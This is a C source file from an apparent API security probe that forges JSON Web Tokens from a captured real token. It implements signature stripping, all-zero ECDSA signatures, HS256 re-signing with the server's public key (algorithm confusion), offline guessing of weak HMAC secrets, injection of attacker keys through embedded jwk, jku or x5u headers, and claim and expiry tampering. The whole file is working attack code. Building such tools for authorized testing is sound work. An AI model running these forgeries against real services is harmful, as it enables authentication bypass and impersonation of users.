/*
 * forge.c - attacker tokens made from a real compact JWS (forge.h). The
 * JOSE module signs only with keys it accepts; an attacker's guessed HMAC
 * secret may be empty or short, so HS256 is computed here with OpenSSL's
 * one-shot HMAC rather than through an af_key.
 */
#include "config.h"

#include <stdlib.h>
#include <string.h>

#include <openssl/evp.h>
#include <openssl/hmac.h>

#include "authflow/buf.h"
#include "authflow/jose.h"
#include "authflow/util.h"
#include "probe/jsonutil.h"
#include "probe/forge.h"

/* The parts of a compact JWS: text as received, and header and claims
 * decoded (owned). */
struct jws_parts {
    const char *seg[3];
    size_t len[3];
    json_t *header;
    json_t *claims;
};

static void parts_clear(struct jws_parts *p)
{
    json_decref(p->header);
    json_decref(p->claims);
    memset(p, 0, sizeof(*p));
}

static json_t *decode_object(const char *s, size_t len)
{
    struct af_buf b;
    json_t *v = NULL;
    af_buf_init(&b, AF_JWS_MAX_LEN);
    if (af_b64url_decode(&b, s, len) == AF_OK)
        v = json_loadb(af_buf_str(&b), b.len, JSON_REJECT_DUPLICATES, NULL);
    af_buf_free(&b);
    if (v != NULL && !json_is_object(v)) {
        json_decref(v);
        v = NULL;
    }
    return v;
}

static af_rc split(const char *tok, struct jws_parts *p, struct af_err *err)
{
    const char *d1, *d2;
    memset(p, 0, sizeof(*p));
    if (strlen(tok) > AF_JWS_MAX_LEN)
        return AF_ERR_SET(err, AF_ERR_PARSE, "the token is longer than %d bytes", AF_JWS_MAX_LEN);
    d1 = strchr(tok, '.');
    d2 = d1 ? strchr(d1 + 1, '.') : NULL;
    if (d1 == NULL || d2 == NULL || strchr(d2 + 1, '.') != NULL)
        return AF_ERR_SET(err, AF_ERR_PARSE,
                          "the token is not a compact JWS (three parts separated by dots): "
                          "nothing to forge from");
    p->seg[0] = tok;
    p->len[0] = (size_t)(d1 - tok);
    p->seg[1] = d1 + 1;
    p->len[1] = (size_t)(d2 - d1 - 1);
    p->seg[2] = d2 + 1;
    p->len[2] = strlen(d2 + 1);
    p->header = decode_object(p->seg[0], p->len[0]);
    p->claims = decode_object(p->seg[1], p->len[1]);
    if (p->header == NULL || p->claims == NULL) {
        parts_clear(p);
        return AF_ERR_SET(err, AF_ERR_PARSE,
                          "the token's %s is not base64url-encoded JSON: nothing to forge from",
                          p->header == NULL ? "header" : "payload");
    }
    return AF_OK;
}

/* apply: set (or, for null, remove) each member of set in obj; true when
 * anything changed. */
static bool apply(json_t *obj, const json_t *set)
{
    const char *k;
    json_t *v;
    bool changed = false;
    json_object_foreach((json_t *)set, k, v)
    {
        if (json_is_null(v))
            changed = json_object_del(obj, k) == 0 || changed;
        else if (!json_equal(json_object_get(obj, k), v))
            changed = json_object_set(obj, k, v) == 0 || changed;
    }
    return changed;
}

/* shift: add seconds to numeric claims (a missing one is set to now plus
 * the shift, so "exp" can be pushed into the future of a token without
 * one). */
static bool shift(json_t *claims, const json_t *by)
{
    const char *k;
    json_t *v;
    bool changed = false;
    json_object_foreach((json_t *)by, k, v)
    {
        json_t *cur = json_object_get(claims, k);
        json_int_t base = json_is_integer(cur) ? json_integer_value(cur)
                          : json_is_real(cur)  ? (json_int_t)json_real_value(cur)
                                               : (json_int_t)af_now();
        if (json_object_set_new(claims, k, json_integer(base + json_integer_value(v))) == 0)
            changed = true;
    }
    return changed;
}

static af_rc encode_json(struct af_buf *out, const json_t *v)
{
    char *s = json_dumps(v, JSON_COMPACT | JSON_PRESERVE_ORDER);
    af_rc rc;
    if (s == NULL)
        return AF_ERR_NOMEM;
    rc = af_b64url_encode(out, (const unsigned char *)s, strlen(s));
    free(s);
    return rc;
}

/* zero_len: the signature length of alg with every byte zero: r = s = 0
 * for ECDSA (RFC 7518 §3.4 fixes R || S at twice the curve size). */
static size_t zero_len(const char *alg)
{
    if (alg != NULL && strcmp(alg, "ES384") == 0)
        return 96;
    if (alg != NULL && strcmp(alg, "ES512") == 0)
        return 132;
    return 64;
}

static af_rc hs256(struct af_buf *out, const unsigned char *key, size_t klen, const char *input,
                   size_t ilen)
{
    unsigned char mac[EVP_MAX_MD_SIZE];
    unsigned int mlen = 0;
    static const unsigned char empty[1] = {0};
    if (HMAC(EVP_sha256(), klen ? key : empty, (int)klen, (const unsigned char *)input, ilen, mac,
             &mlen) == NULL)
        return AF_ERR_CRYPTO;
    return af_b64url_encode(out, mac, mlen);
}

/* pem_of: the public key of jwk as PEM text. Caller frees. */
static af_rc pem_of(const json_t *jwk, char **out, struct af_err *err)
{
    struct af_key *key = NULL;
    af_rc rc = af_key_from_jwk(jwk, &key, err);
    if (rc == AF_OK)
        rc = af_key_public_pem(key, out);
    af_key_free(key);
    return rc;
}

af_rc af_forge_check(const json_t *spec, struct af_err *err)
{
    static const char *const keys[] = {"from",  "header",    "claims", "claim_path",
                                       "shift", "signature", "sign"};
    const json_t *cp = json_object_get(spec, "claim_path");
    const json_t *sign = json_object_get(spec, "sign"), *sig = json_object_get(spec, "signature");
    const char *k;
    json_t *v;
    if (!json_is_object(spec))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge must be an object");
    if (af_json_known_keys(spec, keys, sizeof(keys) / sizeof(keys[0]), "forge", err) != AF_OK)
        return AF_ERR_INVALID;
    if (!json_is_string(json_object_get(spec, "from")))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.from: the token, a template string");
    if (json_object_get(spec, "header") && !json_is_object(json_object_get(spec, "header")))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.header must be an object");
    if (json_object_get(spec, "claims") && !json_is_object(json_object_get(spec, "claims")))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.claims must be an object");
    if (cp != NULL && (!json_is_object(cp) || !json_is_string(json_object_get(cp, "path")) ||
                       json_object_get(cp, "value") == NULL || json_object_size(cp) != 2))
        return AF_ERR_SET(err, AF_ERR_INVALID,
                          "forge.claim_path is {\"path\": \"a.b\", \"value\": VALUE}");
    if (json_object_get(spec, "shift")) {
        if (!json_is_object(json_object_get(spec, "shift")))
            return AF_ERR_SET(err, AF_ERR_INVALID, "forge.shift must be an object");
        json_object_foreach(json_object_get(spec, "shift"), k, v)
        {
            if (!json_is_integer(v))
                return AF_ERR_SET(err, AF_ERR_INVALID,
                                  "forge.shift.%s must be an integer (seconds)", k);
        }
    }
    if (sig != NULL && (!json_is_string(sig) || (strcmp(json_string_value(sig), "keep") != 0 &&
                                                 strcmp(json_string_value(sig), "drop") != 0 &&
                                                 strcmp(json_string_value(sig), "zero") != 0)))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.signature must be keep, drop or zero");
    if (sign != NULL) {
        if (sig != NULL)
            return AF_ERR_SET(err, AF_ERR_INVALID, "forge: give signature or sign, not both");
        if (!json_is_object(sign) || json_object_size(sign) != 1 ||
            !(json_is_string(json_object_get(sign, "hs256")) ||
              json_object_get(sign, "hs256_pem_of") != NULL ||
              json_object_get(sign, "hs256_guess") != NULL ||
              json_is_string(json_object_get(sign, "embedded")) ||
              json_is_string(json_object_get(sign, "jku")) ||
              json_is_string(json_object_get(sign, "x5u"))))
            return AF_ERR_SET(err, AF_ERR_INVALID,
                              "forge.sign is one of {\"hs256\": SECRET}, {\"hs256_pem_of\": JWK}, "
                              "{\"hs256_guess\": [SECRET, ...]}, {\"embedded\" | \"jku\" | "
                              "\"x5u\": \"RS256\" | \"ES256\"}");
    }
    return AF_OK;
}

/* guess_secret: the secret of candidates (an array of strings) under
 * which the token's own HS256 signature comes out, the way an attacker
 * finds a weak one offline. Borrowed from candidates; AF_ERR_NOTFOUND (err
 * says why) when none does. */
static af_rc guess_secret(const struct jws_parts *p, const json_t *candidates, const char **out,
                          struct af_err *err)
{
    const char *alg = json_string_value(json_object_get(p->header, "alg"));
    struct af_buf mac;
    json_t *c;
    size_t i;
    af_rc rc = AF_OK;

    *out = NULL;
    if (!json_is_array(candidates))
        return AF_ERR_SET(err, AF_ERR_INVALID, "forge.sign.hs256_guess: a list of secrets");
    if (alg == NULL || strcmp(alg, "HS256") != 0)
        return AF_ERR_SET(err, AF_ERR_NOTFOUND,
                          "the token is signed %s, not HS256: there is no secret to guess",
                          alg ? alg : "(no alg)");
    af_buf_init(&mac, 128);
    json_array_foreach(candidates, i, c)
    {
        const char *sec = json_string_value(c);
        if (sec == NULL)
            continue;
        af_buf_reset(&mac);
        /* the signing input is the token's text up to the second dot */
        rc = hs256(&mac, (const unsigned char *)sec, strlen(sec), p->seg[0],
                   p->len[0] + 1 + p->len[1]);
        if (rc != AF_OK)
            break;
        if (mac.len == p->len[2] && memcmp(af_buf_str(&mac), p->seg[2], mac.len) == 0) {
            *out = sec;
            break;
        }
    }
    af_buf_free(&mac);
    if (rc == AF_OK && *out == NULL)
        rc = AF_ERR_SET(err, AF_ERR_NOTFOUND,
                        "none of the %zu secrets gives the token's HS256 signature",
                        json_array_size(candidates));
    return rc;
}

/* keyed_header: the header of a token signed by key, a key of the probe's:
 * alg follows it (unless keep_alg), and "jwk" embeds its public JWK,
 * "jku" points at url where a JWK set holds it, or "x5u" at url where a
 * certificate holds it; *doc is that set or certificate (caller frees). */
static af_rc keyed_header(json_t *h, const struct af_key *key, const char *how, const char *alg,
                          bool keep_alg, const char *url, char **doc, struct af_err *err)
{
    json_t *jwk = NULL, *set = NULL;
    af_rc rc = af_key_public_jwk(key, &jwk);
    if (rc != AF_OK)
        goto out;
    if (!keep_alg)
        json_object_set_new(h, "alg", json_string(alg));
    if (strcmp(how, "embedded") == 0) {
        json_object_set(h, "jwk", jwk);
        goto out;
    }
    if (url == NULL || doc == NULL) {
        rc = AF_ERR_SET(err, AF_ERR_INVALID, "forge.sign.%s: no URL to serve the key at", how);
        goto out;
    }
    /* the API's kid names the API's key: the token names the probe's */
    if (strcmp(how, "jku") == 0) {
        json_object_set_new(h, "kid", json_string(af_key_kid(key)));
        json_object_set_new(h, "jku", json_string(url));
        set = json_pack("{s:[O]}", "keys", jwk);
        *doc = set ? json_dumps(set, JSON_COMPACT) : NULL;
        rc = *doc ? AF_OK : AF_ERR_NOMEM;
    } else {
        json_object_del(h, "kid");
        json_object_set_new(h, "x5u", json_string(url));
        rc = af_key_self_signed_pem(key, "authprobe", 3600, doc);
    }
out:
    json_decref(set);
    json_decref(jwk);
    return rc;
}

/* sign_own: sign with a fresh key of the probe's (RS256 or ES256) that the
 * header embeds or points at (keyed_header). */
static af_rc sign_own(const json_t *spec, struct jws_parts *p, const char *how, const char *alg_s,
                      bool keep_alg, const char *url, char **doc, struct af_buf *b,
                      struct af_err *err)
{
    struct af_key *key = NULL;
    char *jws = NULL, *c = NULL;
    af_alg alg;
    af_rc rc = af_alg_parse(alg_s, &alg);

    if (rc != AF_OK || (alg != AF_ALG_RS256 && alg != AF_ALG_ES256)) {
        rc = AF_ERR_SET(err, AF_ERR_INVALID, "forge.sign.%s: RS256 or ES256, not %s", how, alg_s);
        goto out;
    }
    rc = af_key_generate(alg, &key, err);
    if (rc == AF_OK)
        rc = keyed_header(p->header, key, how, alg_s, keep_alg, url, doc, err);
    if (rc != AF_OK)
        goto out;
    apply(p->header, json_object_get(spec, "header"));
    /* af_jws_sign_as_is encodes the payload bytes it is given */
    c = json_dumps(p->claims, JSON_COMPACT | JSON_PRESERVE_ORDER);
    if (c == NULL) {
        rc = AF_ERR_NOMEM;
        goto out;
    }
    rc = af_jws_sign_as_is(key, p->header, c, strlen(c), &jws, err);
    if (rc == AF_OK)
        rc = af_buf_adds(b, jws);
out:
    free(c);
    free(jws);
    af_key_free(key);
    return rc;
}

/* sign_with: the header's alg follows the key (unless the spec's header
 * names one), then header, claims and the signature in b. */
static af_rc sign_with(const json_t *spec, struct jws_parts *p, const json_t *sign, bool keep_alg,
                       const char *url, char **doc, struct af_buf *b, struct af_err *err)
{
    static const char *const own[] = {"embedded", "jku", "x5u"};
    const char *secret = json_string_value(json_object_get(sign, "hs256"));
    char *pem = NULL;
    size_t hl, i;
    af_rc rc = AF_OK;

    for (i = 0; i < sizeof(own) / sizeof(own[0]); i++) {
        const char *alg = json_string_value(json_object_get(sign, own[i]));
        if (alg != NULL)
            return sign_own(spec, p, own[i], alg, keep_alg, url, doc, b, err);
    }
    if (json_object_get(sign, "hs256_guess") != NULL) {
        rc = guess_secret(p, json_object_get(sign, "hs256_guess"), &secret, err);
        if (rc != AF_OK)
            goto out;
    }
    if (json_object_get(sign, "hs256_pem_of") != NULL) {
        rc = pem_of(json_object_get(sign, "hs256_pem_of"), &pem, err);
        if (rc != AF_OK) {
            rc = AF_ERR_SET(err, AF_ERR_PARSE, "forge.sign.hs256_pem_of: not a public key: %s",
                            err->msg);
            goto out;
        }
        secret = pem;
    }
    if (!keep_alg)
        json_object_set_new(p->header, "alg", json_string("HS256"));
    apply(p->header, json_object_get(spec, "header"));
    rc = encode_json(b, p->header);
    if (rc == AF_OK)
        rc = af_buf_addc(b, '.');
    if (rc == AF_OK)
        rc = encode_json(b, p->claims);
    hl = b->len;
    if (rc == AF_OK)
        rc = af_buf_addc(b, '.');
    if (rc == AF_OK)
        rc = hs256(b, (const unsigned char *)secret, strlen(secret), af_buf_str(b), hl);
out:
    free(pem);
    return rc;
}

/* claim_path: set (null: remove) the claim at a dotted path, making the
 * objects on the way; true when anything changed. */
static bool claim_path(json_t *claims, const json_t *cp)
{
    const char *path = json_string_value(json_object_get(cp, "path"));
    const json_t *val = json_object_get(cp, "value");
    json_t *obj = claims;
    char *dup, *seg, *dot;
    bool changed = false;

    if (path == NULL || val == NULL || (dup = strdup(path)) == NULL)
        return false;
    seg = dup;
    while ((dot = strchr(seg, '.')) != NULL) {
        json_t *next;
        *dot = '\0';
        next = json_object_get(obj, seg);
        if (!json_is_object(next)) {
            if (json_is_null(val))
                goto out; /* nothing to remove */
            next = json_object();
            if (next == NULL || json_object_set_new(obj, seg, next) != 0)
                goto out;
        }
        obj = next;
        seg = dot + 1;
    }
    if (json_is_null(val))
        changed = json_object_del(obj, seg) == 0;
    else if (!json_equal(json_object_get(obj, seg), val))
        changed = json_object_set(obj, seg, (json_t *)val) == 0;
out:
    free(dup);
    return changed;
}

const char *af_forge_serves(const json_t *spec)
{
    const json_t *sign = json_object_get(spec, "sign");
    if (json_object_get(sign, "jku") != NULL)
        return "jku";
    if (json_object_get(sign, "x5u") != NULL)
        return "x5u";
    return NULL;
}

af_rc af_forge(const json_t *spec, char **out, struct af_err *err)
{
    return af_forge_served(spec, NULL, out, NULL, err);
}

af_rc af_forge_served(const json_t *spec, const char *url, char **out, char **doc,
                      struct af_err *err)
{
    const json_t *hset = json_object_get(spec, "header"), *sign = json_object_get(spec, "sign");
    const char *sig = json_string_value(json_object_get(spec, "signature"));
    struct jws_parts p;
    struct af_buf b;
    bool hchanged, cchanged;
    af_rc rc;

    *out = NULL;
    if (doc != NULL)
        *doc = NULL;
    rc = af_forge_check(spec, err);
    if (rc != AF_OK)
        return rc;
    rc = split(json_string_value(json_object_get(spec, "from")), &p, err);
    if (rc != AF_OK)
        return rc;
    af_buf_init(&b, 2 * AF_JWS_MAX_LEN);
    cchanged = apply(p.claims, json_object_get(spec, "claims"));
    cchanged = shift(p.claims, json_object_get(spec, "shift")) || cchanged;
    cchanged = claim_path(p.claims, json_object_get(spec, "claim_path")) || cchanged;
    if (sign != NULL) {
        rc = sign_with(spec, &p, sign, json_object_get(hset, "alg") != NULL, url, doc, &b, err);
        goto out;
    }
    hchanged = apply(p.header, hset);
    rc = hchanged ? encode_json(&b, p.header) : af_buf_add(&b, p.seg[0], p.len[0]);
    if (rc == AF_OK)
        rc = af_buf_addc(&b, '.');
    if (rc == AF_OK)
        rc = cchanged ? encode_json(&b, p.claims) : af_buf_add(&b, p.seg[1], p.len[1]);
    if (rc == AF_OK)
        rc = af_buf_addc(&b, '.');
    if (rc != AF_OK || (sig != NULL && strcmp(sig, "drop") == 0))
        goto out;
    if (sig != NULL && strcmp(sig, "zero") == 0) {
        const char *alg = json_string_value(json_object_get(p.header, "alg"));
        unsigned char zero[132];
        memset(zero, 0, sizeof(zero));
        rc = af_b64url_encode(&b, zero, zero_len(alg));
    } else {
        rc = af_buf_add(&b, p.seg[2], p.len[2]); /* the real signature, kept */
    }
out:
    if (rc == AF_OK) {
        *out = af_buf_detach(&b);
        if (*out == NULL)
            rc = AF_ERR_NOMEM;
    }
    if (rc != AF_OK && doc != NULL) {
        free(*doc);
        *doc = NULL;
    }
    af_buf_free(&b);
    parts_clear(&p);
    return rc;
}
